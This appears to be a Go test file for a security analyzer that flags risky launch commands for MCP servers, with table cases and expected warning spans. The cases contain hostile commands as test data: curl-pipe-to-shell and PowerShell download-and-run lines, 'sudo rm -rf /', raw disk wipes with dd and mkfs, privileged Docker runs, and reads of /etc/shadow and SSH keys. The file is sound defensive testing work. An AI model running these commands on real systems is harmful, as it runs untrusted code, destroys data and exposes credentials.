package launch_test

import (
	"slices"
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"

	"github.com/airlock-mcp/airlock/consent/launch"
)

// hit is what a table case asserts about a span: its category and the exact text of the
// command it covers (credentials included; Span.Text itself hides those).
type hit struct {
	Cat  launch.Category
	Text string
}

func hits(c launch.Command, a launch.Analysis) []hit {
	var out []hit
	for _, s := range a.Spans {
		out = append(out, hit{s.Category, c.Text(s.Where)[s.Start:s.End]})
	}
	return sorted(out)
}

func sorted(hs []hit) []hit {
	slices.SortFunc(hs, func(a, b hit) int {
		return strings.Compare(string(a.Cat)+"\x00"+a.Text, string(b.Cat)+"\x00"+b.Text)
	})
	return hs
}

func argv(s ...string) launch.Command { return launch.Command{Argv: s} }

const (
	ghToken     = "ghp_0123456789abcdefghijABCDEFGHIJ012345"
	slackToken  = "xoxb-1234567890-0987654321-AbCdEfGhIjKlMnOp"
	anthropic   = "sk-ant-api03-AbCdEf0123456789_xyzXYZ-abcdef"
	awsKeyID    = "AKIAIOSFODNN7EXAMPLE"
	imageDigest = "@sha256:0000000000000000000000000000000000000000000000000000000000000000"
)

var (
	privilege    = launch.Privilege
	destructive  = launch.Destructive
	downloadExec = launch.DownloadExec
	unpinned     = launch.UnpinnedPackage
	container    = launch.ContainerHost
	sensitive    = launch.SensitivePath
	credential   = launch.PlaintextCredential
	cleartext    = launch.CleartextHTTP
	writable     = launch.WorldWritableExe
)

func TestAnalyzeSpans(t *testing.T) {
	tests := []struct {
		name string
		cmd  launch.Command
		want []hit
	}{
		// Package runners.
		{"npx unpinned", argv("npx", "-y", "@modelcontextprotocol/server-filesystem", "/Users/me/projects"),
			[]hit{{unpinned, "@modelcontextprotocol/server-filesystem"}}},
		{"npx pinned scoped", argv("npx", "-y", "@modelcontextprotocol/server-filesystem@2025.8.21", "/Users/me/projects"), nil},
		{"npx pinned", argv("npx", "-y", "pkg@1.2.3"), nil},
		{"npx latest", argv("npx", "pkg@latest", "--port", "3000"), []hit{{unpinned, "pkg@latest"}}},
		{"npx range", argv("npx", "--yes", "some-mcp@^1.2.0"), []hit{{unpinned, "some-mcp@^1.2.0"}}},
		{"npx package flag", argv("npx", "-y", "--package=@scope/tool@1.0.0", "--", "tool-bin"), nil},
		{"npx package flag unpinned", argv("npx", "-p", "@scope/tool", "tool-bin"), []hit{{unpinned, "@scope/tool"}}},
		{"npx local path", argv("npx", "./tools/server"), nil},
		{"npm exec", argv("npm", "exec", "--yes", "--", "mcp-server-sqlite"), []hit{{unpinned, "mcp-server-sqlite"}}},
		{"bunx", argv("bunx", "mcp-server-everything"), []hit{{unpinned, "mcp-server-everything"}}},
		{"pnpm dlx pinned", argv("pnpm", "dlx", "mcp-server-everything@0.6.2"), nil},
		{"uvx unpinned", argv("uvx", "mcp-server-git", "--repository", "/Users/me/repo"), []hit{{unpinned, "mcp-server-git"}}},
		{"uvx pinned ==", argv("uvx", "mcp-server-fetch==2025.4.7"), nil},
		{"uvx pinned with python", argv("uvx", "--python", "3.12", "mcp-server-time@0.6.2"), nil},
		{"uvx from pinned", argv("uvx", "--from", "mcp-server-git@0.6.2", "mcp-server-git"), nil},
		{"uvx from git", argv("uvx", "--from", "git+https://github.com/org/mcp-y", "mcp-y"),
			[]hit{{unpinned, "git+https://github.com/org/mcp-y"}}},
		{"uvx at latest", argv("uvx", "mcp-server-time@latest"), []hit{{unpinned, "mcp-server-time@latest"}}},
		{"uv tool run", argv("uv", "tool", "run", "--with", "httpx", "mcp-proxy"), []hit{{unpinned, "mcp-proxy"}}},
		{"pipx run", argv("pipx", "run", "mcp-server-sqlite"), []hit{{unpinned, "mcp-server-sqlite"}}},
		{"pipx run spec pinned", argv("pipx", "run", "--spec", "mcp-server-sqlite==0.6.2", "mcp-server-sqlite"), nil},
		{"go run latest", argv("go", "run", "github.com/org/mcp@latest", "stdio"), []hit{{unpinned, "github.com/org/mcp@latest"}}},
		{"go run pinned", argv("go", "run", "-tags", "netgo", "github.com/org/mcp@v1.4.0"), nil},

		// Containers.
		{"docker github server", launch.Command{
			Argv: []string{"docker", "run", "-i", "--rm", "-e", "GITHUB_PERSONAL_ACCESS_TOKEN", "ghcr.io/github/github-mcp-server"},
			Env:  map[string]string{"GITHUB_PERSONAL_ACCESS_TOKEN": ghToken},
		}, []hit{{unpinned, "ghcr.io/github/github-mcp-server"}, {credential, ghToken}}},
		{"docker pinned digest with token reference", launch.Command{
			Argv: []string{"docker", "run", "-i", "--rm", "-e", "GITHUB_PERSONAL_ACCESS_TOKEN", "ghcr.io/github/github-mcp-server" + imageDigest},
			Env:  map[string]string{"GITHUB_PERSONAL_ACCESS_TOKEN": "${input:github_token}"},
		}, nil},
		{"docker latest", argv("docker", "run", "-i", "--rm", "mcp/fetch:latest"), []hit{{unpinned, "mcp/fetch:latest"}}},
		{"docker registry port, tag", argv("docker", "run", "-i", "--rm", "localhost:5000/mcp/fetch:1.2.0"), nil},
		{"docker host access", argv("docker", "run", "--privileged", "-v", "/var/run/docker.sock:/var/run/docker.sock",
			"--network", "host", "--pid=host", "--cap-add", "SYS_ADMIN", "--security-opt", "seccomp=unconfined", "img:1.0"),
			[]hit{
				{container, "--privileged"}, {container, "/var/run/docker.sock:/var/run/docker.sock"}, {container, "host"},
				{container, "host"}, {container, "SYS_ADMIN"}, {container, "seccomp=unconfined"},
			}},
		{"docker root mount and ssh keys", argv("podman", "run", "-i", "--volume=/:/host", "-v", "/Users/me/.ssh:/root/.ssh:ro",
			"--net=host", "--cap-add=ALL", "img:2"),
			[]hit{{container, "/:/host"}, {container, "host"}, {container, "ALL"}, {sensitive, "/Users/me/.ssh"}}},
		{"docker safe mounts", argv("docker", "run", "-i", "--rm", "--mount", "type=bind,src=/Users/me/projects,dst=/projects/.ssh",
			"-v", "/Users/me/data:/data", "mcp/filesystem"+imageDigest, "/projects/.env"), nil},

		// Plain servers and false positives.
		{"node script", argv("node", "/Users/me/mcp/build/index.js"), nil},
		{"python module", argv("python", "-m", "mcp_server_fetch"), nil},
		{"python3.12 inline safe", argv("python3.12", "-c", "import json; print(json.dumps({}))"), nil},
		{"look-alikes", argv("/usr/local/bin/keyboard-mcp", "--dir", "/home/me/.envoy", "--key", "/home/me/.ssh_backup/id_rsa.pub",
			"--sample", ".env.example", "--mode", "risk-assessment-for-all-teams-2024", "--url", "http://localhost:8080"), nil},
		{"settings that mention secrets", launch.Command{
			Argv: []string{"llm-mcp", "--max-tokens", "1000", "--tokenizer", "cl100k", "--no-auth", "/srv", "sk-learn-helper-2024-edition-extra"},
			Env:  map[string]string{"GOOGLE_APPLICATION_CREDENTIALS": "/Users/me/keys/sa.json", "COOKIE_DOMAIN": "example.com", "MAX_TOKENS": "512"},
		}, nil},
		{"openai key", argv("mcp-openai", "--key", "sk-proj-Ab12Cd34Ef56Gh78Ij90Kl12"), []hit{{credential, "sk-proj-Ab12Cd34Ef56Gh78Ij90Kl12"}}},
		{"loopback URLs", argv("mcp-proxy", "http://127.0.0.1:3000/mcp", "ws://[::1]:9000", "http://api.localhost/x"), nil},
		{"token references", argv("npx", "-y", "mcp-remote@0.1.18", "https://mcp.example.com/sse", "--header", "Authorization: Bearer ${AUTH_TOKEN}",
			"--api-key", "$API_KEY", "--token-file", "/run/secrets/token"), nil},
		{"redirect to null", argv("sh", "-c", "exec node /srv/mcp/index.js 2>/dev/null"), nil},
		{"pipe to python script", argv("sh", "-c", "curl -fsSL https://api.example.com/x | python3 -c 'import json,sys; print(json.load(sys.stdin))'"), nil},

		// Download and run.
		{"curl pipe sh", argv("sh", "-c", "curl -fsSL https://x.sh | sh"), []hit{{downloadExec, "curl -fsSL https://x.sh | sh"}}},
		{"wget pipe bash", argv("bash", "-lc", "wget -O- https://example.com/install | bash -s -- --yes"),
			[]hit{{downloadExec, "wget -O- https://example.com/install | bash"}}},
		{"curl pipe sudo bash", argv("bash", "-c", "curl -s http://get.example.com | sudo bash"),
			[]hit{{downloadExec, "curl -s http://get.example.com | sudo bash"}, {privilege, "sudo"}, {cleartext, "http://get.example.com"}}},
		{"base64 pipe sh", argv("sh", "-c", "echo Y3VybCB4 | base64 -d | sh"), []hit{{downloadExec, "base64 -d | sh"}}},
		{"process substitution", argv("bash", "-c", "bash <(curl -s https://x.example/y)"),
			[]hit{{downloadExec, "bash <(curl -s https://x.example/y)"}}},
		{"eval of download", argv("bash", "-c", `eval "$(curl -fsSL https://x.example)"`),
			[]hit{{downloadExec, `eval "$(curl -fsSL https://x.example)"`}}},
		{"eval", argv("sh", "-c", "eval $SERVER_CMD"), []hit{{downloadExec, "eval"}}},
		{"iex iwr", argv("powershell", "-NoProfile", "-Command", "iex (iwr https://x.example/y.ps1)"),
			[]hit{{downloadExec, "iex (iwr https://x.example/y.ps1)"}}},
		{"irm pipe iex", argv("powershell.exe", "-c", "irm https://get.example | iex"), []hit{{downloadExec, "irm https://get.example | iex"}}},
		{"encoded command", argv("powershell", "-enc", "SQBFAFgAIAAoAGkAdwByACkA"), []hit{{downloadExec, "SQBFAFgAIAAoAGkAdwByACkA"}}},
		{"python fetch exec", argv("python3", "-c", "import urllib.request as u; exec(u.urlopen('https://x.example/p').read())"),
			[]hit{{downloadExec, "import urllib.request as u; exec(u.urlopen('https://x.example/p').read())"}}},

		// A shell command inside inline code is analyzed as a script, spans on its words.
		{"python os.system", argv("python3", "-c", "import os; os.system('rm -rf ~/work')"), []hit{{destructive, "rm -rf"}}},
		{"python subprocess shell", argv("python", "-c", `import subprocess; subprocess.run("sudo systemctl stop x", shell=True)`), []hit{{privilege, "sudo"}}},
		{"node execSync", argv("node", "-e", "require('child_process').execSync('curl -s https://x.example/i | sh')"),
			[]hit{{downloadExec, "curl -s https://x.example/i | sh"}}},
		{"node --eval= exec", argv("node", "--eval=require('child_process').exec(\"rm -rf /srv/data\")"), []hit{{destructive, "rm -rf"}}},
		{"perl system", argv("perl", "-e", `system("sudo id")`), []hit{{privilege, "sudo"}}},
		{"ruby system", argv("ruby", "-e", "puts 1; system('rm -rf /tmp/x')"), []hit{{destructive, "rm -rf"}}},
		{"inline code, harmless command", argv("python3", "-c", "import os; os.system('ls -l')"), nil},

		// Privilege.
		{"sudo npx", argv("sudo", "npx", "-y", "mcp-server@1.0.0"), []hit{{privilege, "sudo"}}},
		{"sudo -u", argv("sudo", "-u", "root", "-E", "node", "server.js"), []hit{{privilege, "sudo"}}},
		{"pkexec", argv("pkexec", "/usr/bin/mcp-server"), []hit{{privilege, "pkexec"}}},
		{"doas", argv("doas", "uvx", "mcp-server-git==0.6.2"), []hit{{privilege, "doas"}}},
		{"su -c", argv("su", "-c", "node /srv/x.js", "root"), []hit{{privilege, "su"}}},
		{"runas with cmd", argv("runas", "/user:Administrator", "cmd /c npx -y srv"), []hit{{privilege, "runas"}, {unpinned, "srv"}}},
		{"nested shells", argv("bash", "-c", `sh -c 'sudo rm -rf /'`), []hit{{destructive, "rm -rf"}, {privilege, "sudo"}}},

		// Destruction.
		{"rm -rf then serve", argv("sh", "-c", "rm -rf ~/cache && node x.js"), []hit{{destructive, "rm -rf"}}},
		{"rm long flags", argv("bash", "-c", "rm --recursive --force /data"), []hit{{destructive, "rm --recursive --force"}}},
		{"rm -fr in argv", argv("rm", "-fr", "/srv/data"), []hit{{destructive, "-fr"}}},
		{"mkfs dd shred", argv("sh", "-c", "mkfs.ext4 /dev/sdb1; dd if=/dev/zero of=/dev/sda bs=1M; shred -u notes.txt"),
			[]hit{{destructive, "mkfs.ext4"}, {destructive, "of=/dev/sda"}, {destructive, "shred"}}},
		{"chmod and raw disk write", argv("sh", "-c", "chmod -R 777 /srv && cat img > /dev/sda"),
			[]hit{{destructive, "chmod -R 777"}, {destructive, "> /dev/sda"}}},
		{"find exec rm", argv("sh", "-c", "find /var/cache/x -exec rm -rf {} +"), []hit{{destructive, "rm -rf"}}},
		{"windows rd", argv("cmd", "/c", `rd /s /q C:\data`), []hit{{destructive, "rd /s /q"}}},
		{"powershell Remove-Item", argv("pwsh", "-Command", `Remove-Item -Recurse -Force C:\x`),
			[]hit{{destructive, "Remove-Item -Recurse -Force"}}},
		{"cmd /c npx", argv("cmd", "/c", "npx", "-y", "@org/server"), []hit{{unpinned, "@org/server"}}},

		// Sensitive paths.
		{"home credential dirs", argv("npx", "-y", "@modelcontextprotocol/server-filesystem@2025.8.21", "~/.ssh", "$HOME/.aws", "/home/x/.gnupg",
			"/Users/x/.kube/config", `C:\Users\x\.docker\config.json`, "${HOME}/.netrc"),
			[]hit{{sensitive, "$HOME/.aws"}, {sensitive, "${HOME}/.netrc"}, {sensitive, "/Users/x/.kube/config"},
				{sensitive, "/home/x/.gnupg"}, {sensitive, `C:\Users\x\.docker\config.json`}, {sensitive, "~/.ssh"}}},
		{"system files and keys", argv("mcp-files", "--allow=/etc/shadow", "/etc/sudoers", "/home/me/.ssh/id_rsa", "--env-file", ".env.production", "./.env"),
			[]hit{{sensitive, "./.env"}, {sensitive, ".env.production"}, {sensitive, "/etc/shadow"}, {sensitive, "/etc/sudoers"},
				{sensitive, "/home/me/.ssh/id_rsa"}}},
		{"file server rooted at the whole home", argv("npx", "-y", "@modelcontextprotocol/server-filesystem@2025.8.21", "~", "/home/me/", `C:\Users\me`, "/"),
			[]hit{{sensitive, "/"}, {sensitive, "/home/me/"}, {sensitive, `C:\Users\me`}, {sensitive, "~"}}},
		{"project directory is fine", argv("npx", "-y", "@modelcontextprotocol/server-filesystem@2025.8.21", "/home/me/projects/app", "~/work"), nil},
		{"ssh command env", launch.Command{Argv: []string{"mcp-git"}, Env: map[string]string{"GIT_SSH_COMMAND": "ssh -i ~/.ssh/id_ed25519 -o IdentitiesOnly=yes"}},
			[]hit{{sensitive, "~/.ssh/id_ed25519"}}},

		// Credentials and cleartext.
		{"tokens in args", argv("mcp-server", "--token", ghToken, "--api-key="+anthropic, "--password", "hunter2", "API_KEY=abc123"),
			[]hit{{credential, "abc123"}, {credential, anthropic}, {credential, ghToken}, {credential, "hunter2"}}},
		{"header and URL password", argv("mcp-remote@0.1.0", "--header", "Authorization: Bearer abc.def.ghi", "postgres://app:s3cret@db.example.com/app"),
			[]hit{{credential, "abc.def.ghi"}, {credential, "s3cret"}}},
		{"env values", launch.Command{Argv: []string{"node", "index.js"}, Env: map[string]string{
			"SLACK_BOT_TOKEN": slackToken,
			"DATABASE_URL":    "postgres://u:pw@db.internal/app",
			"API_BASE":        "http://api.example.com/v1",
			"OPENAI_API_KEY":  "${OPENAI_API_KEY}",
			"AWS_REGION":      "us-east-1",
			"MY_KEY_ID":       awsKeyID,
		}}, []hit{{credential, awsKeyID}, {credential, "pw"}, {credential, slackToken}, {cleartext, "http://api.example.com/v1"}}},
		{"cleartext remote", argv("mcp-proxy", "--sse", "http://10.0.0.5:8080/sse"), []hit{{cleartext, "http://10.0.0.5:8080/sse"}}},

		// Where the program lives.
		{"executable in tmp", launch.Command{Argv: []string{"server"}, Executable: "/tmp/mcp/server"}, []hit{{writable, "/tmp/mcp/server"}}},
		{"argv0 in dev shm", argv("/dev/shm/x", "--stdio"), []hit{{writable, "/dev/shm/x"}}},
		{"script in tmp", argv("node", "/tmp/evil.js"), []hit{{writable, "/tmp/evil.js"}}},
		{"relative script in tmp dir", launch.Command{Argv: []string{"node", "build/index.js"}, Dir: "/var/tmp/proj"}, []hit{{writable, "build/index.js"}}},
		{"env wrapper", argv("env", "NODE_ENV=production", "npx", "-y", "srv"), []hit{{unpinned, "srv"}}},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			a := launch.Analyze(tt.cmd)
			if diff := cmp.Diff(sorted(tt.want), hits(tt.cmd, a)); diff != "" {
				t.Errorf("Analyze(%q) spans (-want +got):\n%s", tt.cmd.Argv, diff)
			}
			checkSpans(t, tt.cmd, a)
		})
	}
	t.Logf("%d cases", len(tests))
}

// checkSpans checks what every Analysis must satisfy: spans in bounds, in order, with a
// reason, and with Text equal to the command's text except where it hides a credential.
func checkSpans(t *testing.T, c launch.Command, a launch.Analysis) {
	t.Helper()
	for _, s := range a.Spans {
		src := c.Text(s.Where)
		if s.Start < 0 || s.End > len(src) || s.Start >= s.End {
			t.Fatalf("span %+v out of bounds of %q", s, src)
		}
		if s.Why == "" || (s.Severity != launch.Warn && s.Severity != launch.Danger) {
			t.Errorf("span %+v lacks a reason or severity", s)
		}
		secret := s.Category == launch.PlaintextCredential
		if secret && !strings.HasPrefix(s.Text, "••••••  (") {
			t.Errorf("span %+v shows the credential", s)
		}
		if !secret && s.Text != src[s.Start:s.End] && !strings.Contains(s.Text, "••••••") {
			t.Errorf("span text %q, want %q", s.Text, src[s.Start:s.End])
		}
	}
}
